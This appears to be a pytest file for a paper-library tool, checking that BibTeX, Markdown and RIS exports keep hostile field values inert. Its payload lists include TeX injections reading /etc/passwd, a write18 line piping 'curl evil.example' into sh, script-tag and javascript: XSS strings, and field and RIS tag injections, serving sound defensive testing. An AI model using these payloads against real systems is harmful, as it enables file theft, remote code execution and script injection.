"""No field can break out of its format: hostile values from pages and files, exported and read
back by real readers (bibtexparser, pandoc, our own importers)."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from test_bibtex import parse_bib

from papershelf.formats import export_papers, import_text
from papershelf.formats import tex_safe
from papershelf.papers import Paper

TEX_ATTACKS = [
    r"\input{/etc/passwd}",
    r"\immediate\write18{curl evil.example | sh}",
    r"\csname input\endcsname{/etc/passwd}",
    r"\def\x{\input}\x{/etc/passwd}",
    r"\catcode`\^=7 ^^5cinput{/etc/passwd}",
    r"$^^5cinput{/etc/passwd}$",
    r"$\input{/etc/passwd}$",
    r"\(\openout1=x\write1{y}\)",
    r"\textbf{bold \input{/etc/passwd}}",
    r"\'{\input{/etc/passwd}}",
    r"\usepackage{shellesc}\ShellEscape{id}",
]


def control_words(value: str) -> list[str]:
    """The control words TeX would read in ``value`` (``\\\\`` and other control symbols skipped)."""
    words, i = [], 0
    while i < len(value):
        if value[i] == "\\":
            j = i + 1
            while j < len(value) and value[j].isalpha():
                j += 1
            if j > i + 1:
                words.append(value[i + 1 : j])
                i = j
                continue
            i += 2
            continue
        i += 1
    return words


def hostile_paper(attack: str, n: int) -> Paper:
    return Paper(title=f"Title {attack}", arxiv_id=f"2401.{n:05d}", authors=[f"Eve {attack}", "Ada Lovelace"],
                 abstract=f"Abstract {attack}", venue=f"Conference on {attack}", published=f"2024-01-02{attack}",
                 tags=[f"tag {attack}"], note=f"note {attack}", journal_ref=attack)


@pytest.mark.parametrize("attack", TEX_ATTACKS)
def test_bibtex_values_keep_no_tex_but_harmless_markup(attack):
    body = export_papers("bibtex", [hostile_paper(attack, 1)])[0]
    (entry,) = parse_bib(body).values()
    for field, value in entry.items():
        if field in ("ID", "ENTRYTYPE"):
            continue
        bad = [w for w in control_words(value) if not tex_safe.allowed(w)]
        assert not bad, (field, value)
        assert "^^" not in value, (field, value)
    assert any(w in entry["title"] for w in ("passwd", "write", "ShellEscape", "openout"))  # kept, as text


def test_a_backup_cannot_inject_fields_through_its_date():
    # A JSON backup's "published" reached the export verbatim: "2024}, note = {\input{/etc/passwd}"
    backup = ('{"format": "papershelf", "schema": 1, "papers": [{"title": "A", "arxiv_id": "2401.00001", '
              '"published": "2024}, note = {\\\\input{/etc/passwd}"}]}')
    (paper,) = import_text(backup, "json").papers
    body = export_papers("bibtex", [paper])[0]
    (entry,) = parse_bib(body).values()
    assert "note" not in entry
    assert not [w for w in control_words(entry["date"]) if not tex_safe.allowed(w)]


def test_harmless_tex_is_kept():
    title = r"Na\"{i}ve $\mathcal{O}(n \log n)$ \textbf{Fast} Sorting with \emph{\'{e}l\`{e}ve} \alpha"
    body = export_papers("bibtex", [Paper(title=title, arxiv_id="2401.00001")])[0]
    for kept in (r"\"{i}", r"$\mathcal{O}(n \log n)$", r"\textbf{Fast}", r"\emph{\'{e}l\`{e}ve}"):
        assert kept in body


# --- Markdown ------------------------------------------------------------------------------------


def pandoc_html(markdown: str, reader: str) -> str:
    pandoc = shutil.which("pandoc")
    assert pandoc, "pandoc is missing: `./build.sh test` installs it"
    proc = subprocess.run([pandoc, "-f", reader, "-t", "html"], input=markdown, capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


MARKDOWN_ATTACKS = [
    "a\n\n<script>alert(1)</script>\n\nb",
    "a\r\n\r\n<script>alert(1)</script>",
    "a\u2028\u2028<script>alert(1)</script>",
    "a\x0c\x0c<script>alert(1)</script>",
    "`` <script>alert(1)</script> ``",
    "a\n\n[x](javascript:alert(1))",
]


@pytest.mark.parametrize("reader", ["markdown", "commonmark", "gfm"])
@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_tags_notes_and_titles_stay_text_in_pandoc(attack, reader):
    p = Paper(title=f"T {attack}", arxiv_id="2401.00001", tags=[f"x {attack}"], note=f"n {attack}",
              authors=[f"Eve {attack}"], venue=attack)
    html = pandoc_html(export_papers("markdown", [p])[0], reader)
    assert "<script" not in html and 'href="javascript' not in html, html


# --- RIS -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\x85", "\x0c", "\x0b", "\x1c", "\x1d", "\x1e", "\r", "\r\n"])
def test_no_line_separator_in_a_ris_value_creates_tags(sep):
    attack = f"first{sep}ER  - {sep}TY  - JOUR{sep}TI  - Injected{sep}KW  - injected"
    p = Paper(title="Real", arxiv_id="2401.00001", note=attack, abstract=attack, tags=[f"t{sep}KW  - x"],
              authors=[f"Eve{sep}AU  - Mallory"])
    body = export_papers("ris", [p])[0]
    result = import_text(body, "ris")
    assert result.skipped == []
    (back,) = result.papers
    assert back.title == "Real" and back.tags == [f"t{sep}KW  - x".replace(sep, "\n")] or len(back.tags) == 1
    assert "Injected" in back.note and "Injected" in back.abstract
    assert back.authors and len(back.authors) == 1
    # Read line by line as the other RIS readers do (CR, LF or CRLF only): one record, our tags.
    tags = [line[:2] for line in body.replace("\r\n", "\n").replace("\r", "\n").split("\n") if line[2:6] == "  - "]
    assert tags.count("TY") == 1 and tags.count("ER") == 1 and tags.count("TI") == 1
